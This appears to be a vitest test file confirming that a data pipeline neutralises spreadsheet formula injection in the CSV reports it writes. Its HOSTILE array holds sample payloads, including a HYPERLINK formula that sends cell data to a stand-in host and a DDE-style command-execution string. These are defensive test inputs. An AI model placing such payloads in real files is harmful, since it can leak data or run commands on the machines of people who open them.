// Issue 10 item 15: a drop file is hostile content. Values a spreadsheet would run as a
// formula (starting with `= + - @`, TAB or CR) reach report.csv and errors.csv prefixed with
// `'`, so opening a report never evaluates what a partner wrote.
import { afterEach, describe, expect, it } from 'vitest';
import { csvRecords, PipelineHarness, personalizedFile } from '../helpers/pipeline-harness.ts';

let h: PipelineHarness | null = null;

afterEach(async () => {
  await h?.close();
  h = null;
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

/** Every cell a spreadsheet would evaluate: none may be left. */
function formulaCells(rows: Record<string, string>[]): string[] {
  return rows.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v));
}

describe('CSV formula injection', () => {
  it('report.csv and errors.csv prefix every value that starts with = + - @ TAB or CR', async () => {
    h = await PipelineHarness.create({ source: { maxInvalidRatio: 0.5 } });
    await h.start();
    const gen = personalizedFile(30, 41);
    // `\r` inside a field is kept by the reader only when quoted; a bare one ends the line.
    const hostile = HOSTILE.map((v) => `${v.replaceAll(';', ',')};Hola`).join('\n');
    await h.dropFile('formulas.txt', `${gen.content}${hostile}\n`);
    const m = await h.waitForState('formulas.txt', 'completed');
    const rows = csvRecords(await h.readReport(m));
    const invalid = rows.filter((r) => r.outcome === 'invalid');
    expect(invalid.length).toBeGreaterThanOrEqual(4);
    expect(formulaCells(rows)).toEqual([]);
    expect(invalid.some((r) => r.number?.startsWith("'=HYPERLINK("))).toBe(true);
    expect(invalid.some((r) => r.number === "'@SUM(1,2)")).toBe(true);
    expect(invalid.some((r) => r.number === "'-2+3")).toBe(true);

    // Rejected: errors.csv carries every invalid value, neutralised the same way.
    await h.dropFile('solo-formulas.txt', `${hostile}\n`);
    const rejected = await h.waitForReport('solo-formulas.txt', 'rejected');
    const errors = csvRecords(await h.readReport(rejected, 'errors.csv'));
    expect(errors.length).toBeGreaterThanOrEqual(5);
    expect(formulaCells(errors)).toEqual([]);
    // Alone, the lines read as a bulk file (`|` separates numbers): `+1+cmd` is one value.
    expect(errors.some((r) => r.value === "'+1+cmd")).toBe(true);
    expect(errors.some((r) => r.message?.startsWith("'+1+cmd"))).toBe(true);
  });
});
